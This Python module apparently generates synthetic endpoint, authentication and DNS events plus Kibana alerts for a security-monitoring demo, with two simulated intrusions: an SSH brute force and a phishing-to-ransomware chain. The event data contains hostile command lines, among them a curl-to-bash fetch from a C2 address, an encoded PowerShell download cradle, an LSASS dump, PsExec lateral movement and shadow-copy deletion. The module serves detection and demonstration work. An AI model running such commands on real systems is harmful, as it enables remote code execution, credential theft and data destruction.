"""Security data: endpoint, authentication and DNS events, and the detection alerts raised on
some of them.

Two attack stories run in the last 12 hours, on top of a week of ordinary activity and its
low-grade alerts:

- an SSH brute force on `bastion-01` that ends in a login as `svc_backup` and a script piped
  from the attacker's server into a shell;
- a phishing attachment opened by `alice.nguyen` on `wks-fin-01`: encoded PowerShell, beacons
  to a rare domain, an LSASS dump, PsExec to `srv-file-01`, shadow copies deleted, files
  encrypted.

Every alert copies the ECS fields of the event behind it and names that event in
`kibana.alert.ancestors`, as Kibana's detection engine does.
"""

from __future__ import annotations

import base64
import random
from datetime import datetime, timedelta
from typing import Any

from vigil.demo import rules, world
from vigil.demo.documents import DemoDocument, DocumentSink, iso
from vigil.demo.world import Host

# Fields an alert copies from its source event.
_COPIED = ("host", "user", "process", "source", "destination", "dns", "file", "network", "agent")

_EVERYDAY_WINDOWS = (
    ("chrome.exe", "explorer.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'),
    ("OUTLOOK.EXE", "explorer.exe", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'),
    ("Teams.exe", "explorer.exe", '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"'),
    ("EXCEL.EXE", "explorer.exe", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /e'),
    ("svchost.exe", "services.exe", "C:\\Windows\\System32\\svchost.exe -k netsvcs -p"),
    ("MsMpEng.exe", "services.exe", '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MsMpEng.exe"'),
)
_EVERYDAY_UNIX = (
    ("bash", "sshd", "-bash"),
    ("python3", "bash", "python3 manage.py runserver"),
    ("git", "bash", "git pull --rebase"),
    ("cron", "systemd", "/usr/sbin/cron -f"),
    ("apt-get", "bash", "apt-get update"),
    ("postgres", "systemd", "postgres: checkpointer"),
)


def _host_fields(host: Host) -> dict[str, Any]:
    return {
        "name": host.name,
        "hostname": host.name,
        "ip": host.ip,
        "os": {"name": host.os_name, "family": host.os_family},
    }


def _executable(host: Host, name: str) -> str:
    if host.os_family == "windows":
        return f"C:\\Windows\\System32\\{name}"
    return f"/usr/bin/{name}"


class SecurityGenerator:
    def __init__(self, sink: DocumentSink, rng: random.Random, end: datetime, days: int, space: str) -> None:
        self.sink = sink
        self.rng = rng
        self.end = end
        self.start = end - timedelta(days=days)
        self.space = space
        self.alerts_index = f".alerts-security.alerts-{space}"

    # -- events ---------------------------------------------------------------------------

    def process(
        self,
        when: datetime,
        host: Host,
        user: str,
        name: str,
        command_line: str,
        parent: str,
        *,
        executable: str | None = None,
        action: str = "start",
    ) -> DemoDocument:
        pid = self.rng.randint(300, 65000)
        source = {
            "@timestamp": iso(when),
            "event": {
                "kind": "event",
                "category": "process",
                "type": "start",
                "action": action,
                "module": "endpoint",
                "dataset": "endpoint.events.process",
            },
            "host": _host_fields(host),
            "user": {"name": user, "domain": "ACME" if host.os_family == "windows" else host.name},
            "process": {
                "name": name,
                "pid": pid,
                "entity_id": f"{host.name}-{pid}-{int(when.timestamp())}",
                "executable": executable or _executable(host, name),
                "command_line": command_line,
                "args": command_line.split(),
                "parent": {"name": parent, "pid": self.rng.randint(100, 9000)},
            },
            "agent": {"type": "endpoint", "version": "8.15.0"},
            "data_stream": {"type": "logs", "dataset": "endpoint.events.process", "namespace": "default"},
        }
        return self.sink.add(world.PROCESS_INDEX, source)

    def auth(
        self,
        when: datetime,
        host: Host,
        user: str,
        outcome: str,
        source_ip: str,
        *,
        method: str = "ssh",
    ) -> DemoDocument:
        windows = host.os_family == "windows"
        event: dict[str, Any] = {
            "kind": "event",
            "category": "authentication",
            "type": "start" if outcome == "success" else "info",
            "action": ("logged-in" if outcome == "success" else "logon-failed") if windows else f"ssh_login_{outcome}",
            "outcome": outcome,
            "module": "system",
            "dataset": "system.auth",
        }
        if windows:  # the Windows security event id
            event["code"] = "4624" if outcome == "success" else "4625"
        source = {
            "@timestamp": iso(when),
            "event": event,
            "host": _host_fields(host),
            "user": {"name": user},
            "source": {"ip": source_ip, "port": self.rng.randint(20000, 65000)},
            "system": {"auth": {"ssh": {"method": "password" if method == "ssh" else method}}},
            "data_stream": {"type": "logs", "dataset": "system.auth", "namespace": "default"},
        }
        return self.sink.add(world.AUTH_INDEX, source)

    def dns(self, when: datetime, host: Host, user: str, domain: str, answer: str) -> DemoDocument:
        source = {
            "@timestamp": iso(when),
            "event": {
                "kind": "event",
                "category": "network",
                "type": "protocol",
                "action": "dns_query",
                "module": "network_traffic",
                "dataset": "network_traffic.dns",
            },
            "host": _host_fields(host),
            "user": {"name": user},
            "source": {"ip": host.ip},
            "destination": {"ip": "10.20.0.10", "port": 53},
            "network": {"protocol": "dns", "transport": "udp"},
            "dns": {"question": {"name": domain, "type": "A"}, "resolved_ip": answer, "response_code": "NOERROR"},
            "data_stream": {"type": "logs", "dataset": "network_traffic.dns", "namespace": "default"},
        }
        return self.sink.add(world.DNS_INDEX, source)

    # -- alerts ---------------------------------------------------------------------------

    def alert(self, rule: rules.Rule, event: DemoDocument, delay_seconds: int, status: str) -> DemoDocument:
        origin = event.source
        detected = _parse(origin["@timestamp"]) + timedelta(seconds=delay_seconds)
        alert_id = self.sink.new_id(self.alerts_index)
        source: dict[str, Any] = {"@timestamp": iso(detected)}
        for name in _COPIED:
            if name in origin:
                source[name] = origin[name]
        source["event"] = {**origin.get("event", {}), "kind": "signal"}
        source.update(
            {
                "kibana.alert.uuid": alert_id,
                "kibana.alert.start": iso(detected),
                "kibana.alert.last_detected": iso(detected),
                "kibana.alert.original_time": origin["@timestamp"],
                "kibana.alert.status": "active",
                "kibana.alert.workflow_status": status,
                "kibana.alert.severity": rule.severity,
                "kibana.alert.risk_score": rule.risk_score,
                "kibana.alert.reason": _reason(rule, origin),
                "kibana.alert.depth": 1,
                "kibana.alert.ancestors": [{"id": event.id, "index": event.index, "type": "event", "depth": 0}],
                "kibana.alert.rule.name": rule.name,
                "kibana.alert.rule.uuid": rule.uuid,
                "kibana.alert.rule.rule_id": rule.uuid,
                "kibana.alert.rule.description": rule.description,
                "kibana.alert.rule.type": rule.rule_type,
                "kibana.alert.rule.category": "Custom Query Rule",
                "kibana.alert.rule.producer": "siem",
                "kibana.alert.rule.consumer": "siem",
                "kibana.alert.rule.threat": rule.threat(),
                "kibana.space_ids": [self.space],
                "kibana.version": "8.15.0",
            }
        )
        return self.sink.add(self.alerts_index, source, alert_id)

    def _status(self, when: datetime) -> str:
        """Analysts work the queue: recent alerts are mostly open, old ones mostly closed."""
        age = self.end - when
        roll = self.rng.random()
        if age <= timedelta(hours=24):
            return "open" if roll < 0.75 else "acknowledged"
        return "closed" if roll < 0.7 else ("acknowledged" if roll < 0.85 else "open")

    # -- the week of ordinary activity ----------------------------------------------------

    def background(self) -> None:
        rng = self.rng
        people = {p.workstation: p for p in world.PEOPLE}
        for host in world.ENDPOINTS:
            when = self.start + timedelta(minutes=rng.uniform(0, 30))
            while when < self.end:
                person = people.get(host.name)
                user = person.name if person else rng.choice(world.ADMINS)
                if host.os_family == "windows":
                    name, parent, command = rng.choice(_EVERYDAY_WINDOWS)
                else:
                    name, parent, command = rng.choice(_EVERYDAY_UNIX)
                self.process(when, host, user, name, command.format(user=user), parent)
                # Busier during office hours.
                busy = 8 <= when.hour < 19
                when += timedelta(minutes=rng.expovariate(1 / (12 if busy else 40)))
        for person in world.PEOPLE:
            host = world.HOSTS_BY_NAME[person.workstation]
            day = self.start.replace(hour=8, minute=0, second=0, microsecond=0)
            while day < self.end:
                login = day + timedelta(minutes=rng.randint(0, 90))
                if self.start <= login < self.end:
                    if rng.random() < 0.1:  # a mistyped password now and then
                        self.auth(login - timedelta(seconds=20), host, person.name, "failure", host.ip, method="rdp")
                    self.auth(login, host, person.name, "success", host.ip, method="rdp")
                day += timedelta(days=1)
        for server in (h for h in world.SERVERS if h.os_family == "linux"):
            when = self.start + timedelta(minutes=rng.uniform(0, 60))
            while when < self.end:
                admin = rng.choice(("root", "svc_backup", "erin.garcia", "dmitri.schmidt"))
                source_ip = world.HOSTS_BY_NAME[rng.choice(("wks-dev-01", "wks-dev-02"))].ip
                outcome = "failure" if rng.random() < 0.08 else "success"
                self.auth(when, server, admin, outcome, source_ip)
                when += timedelta(minutes=rng.expovariate(1 / 45))
        for person in world.PEOPLE:
            host = world.HOSTS_BY_NAME[person.workstation]
            when = self.start + timedelta(minutes=rng.uniform(0, 20))
            while when < self.end:
                domain = rng.choice(world.BENIGN_DOMAINS)
                self.dns(when, host, person.name, domain, f"13.107.{rng.randint(0, 255)}.{rng.randint(1, 254)}")
                when += timedelta(minutes=rng.expovariate(1 / 25))

    def noise_alerts(self) -> None:
        """A week of the low-grade alerts every SOC sees, each on an event of its own."""
        rng = self.rng
        span = (self.end - self.start).total_seconds()
        for _ in range(140):
            when = self.start + timedelta(seconds=rng.uniform(0, span - 600))
            kind = rng.choices(("scan", "certutil", "failed", "sudo", "rundll"), weights=(3, 2, 4, 2, 3))[0]
            if kind == "scan":
                host = world.HOSTS_BY_NAME["srv-web-01"]
                event = self.auth(when, host, "probe_user", "failure", world.SCANNER_IP)
                rule = rules.PORT_SCAN
            elif kind == "certutil":
                person = rng.choice(world.PEOPLE[:3] + world.PEOPLE[5:])
                host = world.HOSTS_BY_NAME[person.workstation]
                url = f"http://updates.acme.example/tools/{rng.choice(['agent', 'patch', 'cert'])}.cab"
                command = f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\tool.cab"
                event = self.process(when, host, person.name, "certutil.exe", command, "cmd.exe")
                rule = rules.CERTUTIL
            elif kind == "failed":
                person = rng.choice(world.PEOPLE)
                host = world.HOSTS_BY_NAME[person.workstation]
                event = self.auth(when, host, person.name, "failure", host.ip, method="rdp")
                rule = rules.FAILED_LOGINS
            elif kind == "sudo":
                host = world.HOSTS_BY_NAME[rng.choice(("srv-db-01", "srv-web-01"))]
                user = rng.choice(("erin.garcia", "dmitri.schmidt"))
                event = self.process(when, host, user, "sudo", "sudo -i", "bash", executable="/usr/bin/sudo")
                rule = rules.SUDO_ESCALATION
            else:
                person = rng.choice(world.PEOPLE)
                host = world.HOSTS_BY_NAME[person.workstation]
                if host.os_family != "windows":
                    continue
                command = "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl"
                event = self.process(when, host, person.name, "rundll32.exe", command, "explorer.exe")
                rule = rules.RUNDLL32_NETWORK
            self.alert(rule, event, rng.randint(30, 300), self._status(when))

    # -- the attacks ----------------------------------------------------------------------

    def ssh_brute_force(self) -> None:
        rng = self.rng
        bastion = world.HOSTS_BY_NAME["bastion-01"]
        begin = self.end - timedelta(hours=11)
        when = begin
        failures: list[DemoDocument] = []
        for _ in range(240):
            user = rng.choice(("root", "admin1", "oracle", "ubnt", "pi", "svc_backup"))
            failures.append(self.auth(when, bastion, user, "failure", world.BRUTE_FORCE_IP))
            when += timedelta(seconds=rng.uniform(2, 9))
        for window in (failures[60], failures[140], failures[220]):
            self.alert(rules.SSH_BRUTE_FORCE, window, 60, "acknowledged" if window is failures[60] else "open")
        login = self.auth(when + timedelta(seconds=30), bastion, "svc_backup", "success", world.BRUTE_FORCE_IP)
        self.alert(rules.SSH_SUCCESS_AFTER_BRUTE_FORCE, login, 90, "open")
        command = f"bash -c curl -s http://{world.C2_IP}/x.sh | bash"
        after = _parse(login.timestamp) + timedelta(minutes=8)
        download = self.process(after, bastion, "svc_backup", "curl", command, "bash", executable="/usr/bin/curl")
        self.alert(rules.DOWNLOAD_AND_EXECUTE, download, 45, "open")

    def phishing_to_ransomware(self) -> None:
        rng = self.rng
        alice = world.PEOPLE_BY_NAME["alice.nguyen"]
        workstation = world.HOSTS_BY_NAME[alice.workstation]
        file_server = world.HOSTS_BY_NAME["srv-file-01"]
        t0 = self.end - timedelta(hours=6)

        office = '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "Invoice_4471.docm"'
        self.process(t0, workstation, alice.name, "WINWORD.EXE", office, "OUTLOOK.EXE")
        payload = base64.b64encode(
            f"IEX (New-Object Net.WebClient).DownloadString('http://{world.C2_DOMAIN}/a')".encode()
        )
        powershell = self.process(
            t0 + timedelta(seconds=40),
            workstation,
            alice.name,
            "powershell.exe",
            f"powershell.exe -nop -w hidden -enc {payload.decode()}",
            "WINWORD.EXE",
            executable="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        )
        self.alert(rules.OFFICE_CHILD_PROCESS, powershell, 60, "open")
        self.alert(rules.POWERSHELL_ENCODED, powershell, 75, "open")

        beacon = t0 + timedelta(minutes=10)
        first_beacons: list[DemoDocument] = []
        while beacon < self.end:
            first_beacons.append(self.dns(beacon, workstation, alice.name, world.C2_DOMAIN, world.C2_IP))
            beacon += timedelta(minutes=5, seconds=rng.randint(-20, 20))
        self.alert(rules.RARE_DOMAIN, first_beacons[0], 120, "open")

        dump_command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full"
        dump = self.process(t0 + timedelta(hours=1), workstation, alice.name, "rundll32.exe", dump_command, "cmd.exe")
        self.alert(rules.LSASS_DUMP, dump, 30, "open")

        psexec_command = "PsExec.exe \\\\srv-file-01 -u ACME\\administrator -s cmd.exe"
        psexec = self.process(
            t0 + timedelta(hours=1, minutes=30),
            workstation,
            alice.name,
            "PsExec.exe",
            psexec_command,
            "cmd.exe",
            executable="C:\\Users\\Public\\PsExec.exe",
        )
        self.alert(rules.PSEXEC, psexec, 45, "open")
        self.auth(
            t0 + timedelta(hours=1, minutes=30, seconds=5),
            file_server,
            "administrator",
            "success",
            workstation.ip,
            method="smb",
        )

        vss = self.process(
            t0 + timedelta(hours=2),
            file_server,
            "administrator",
            "vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            "cmd.exe",
        )
        self.alert(rules.SHADOW_COPY_DELETION, vss, 20, "open")
        encryptor = self.process(
            t0 + timedelta(hours=2, minutes=10),
            file_server,
            "administrator",
            "svchost32.exe",
            "C:\\Users\\Public\\svchost32.exe --encrypt D:\\Shares --ext .locked",
            "cmd.exe",
            executable="C:\\Users\\Public\\svchost32.exe",
        )
        self.alert(rules.RANSOMWARE, encryptor, 240, "open")


def _reason(rule: rules.Rule, event: dict[str, Any]) -> str:
    """Kibana's reason sentence: what kind of event, where, and which rule fired."""
    category = event.get("event", {}).get("category", "event")
    parts = [f"{category} event"]
    process = event.get("process")
    if process:
        parts.append(f"with process {process['name']},")
        if process.get("parent"):
            parts.append(f"parent process {process['parent']['name']},")
    if event.get("source", {}).get("ip") and category != "process":
        parts.append(f"source {event['source']['ip']},")
    if event.get("dns"):
        parts.append(f"dns question {event['dns']['question']['name']},")
    user = event.get("user", {}).get("name")
    if user:
        parts.append(f"by {user}")
    parts.append(f"on {event['host']['name']} created {rule.severity} alert {rule.name}.")
    return " ".join(parts)


def _parse(timestamp: str) -> datetime:
    return datetime.fromisoformat(timestamp.replace("Z", "+00:00"))


def generate_security(sink: DocumentSink, rng: random.Random, end: datetime, days: int, space: str) -> None:
    generator = SecurityGenerator(sink, rng, end, days, space)
    generator.background()
    generator.noise_alerts()
    generator.ssh_brute_force()
    generator.phishing_to_ransomware()
